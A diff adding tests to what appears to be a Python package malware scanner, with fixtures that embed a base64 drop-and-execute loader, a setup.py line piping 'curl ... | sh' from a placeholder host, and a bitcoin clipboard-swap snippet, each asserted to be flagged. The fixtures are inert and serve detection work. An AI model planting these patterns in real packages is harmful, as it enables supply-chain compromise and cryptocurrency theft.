@@ -331,3 +331,30 @@ def test_local_ip_idiom_at_import_is_benign(tmp_path: Path) -> None:
     )
     wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": module})
     assert decide(findings_for(wheel)) is Verdict.BENIGN
+
+
+def test_embedded_payload_dropped_and_run_at_import(tmp_path: Path) -> None:
+    blob = base64.b64encode(b"\x00inert\x01" * 40).decode()
+    init = (
+        "import base64, subprocess, tempfile, os\n"
+        f"DATA = '{blob}'\n"
+        "path = os.path.join(tempfile.gettempdir(), 'x.bin')\n"
+        "open(path, 'wb').write(base64.b64decode(DATA))\n"
+        "subprocess.Popen([path])\n"
+    )
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": init})
+    found = findings_for(wheel)
+    assert any(f.rule_id == "PV313" for f in found)
+    assert decide(found) is Verdict.MALICIOUS
+
+
+def test_dunder_import_system_with_download_command(tmp_path: Path) -> None:
+    setup = "__import__('os').system('curl -s https://x.invalid/i.sh | sh')\n"
+    found = findings_for(sdist(tmp_path, setup))
+    assert any(f.rule_id == "PV302" and f.severity is Severity.CRITICAL for f in found)
+
+
+def test_clipboard_access_at_import(tmp_path: Path) -> None:
+    init = "import pyperclip\nif pyperclip.paste().startswith('bc1'):\n    pyperclip.copy('bc1inert')\n"
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": init})
+    assert decide(findings_for(wheel)) is Verdict.SUSPICIOUS
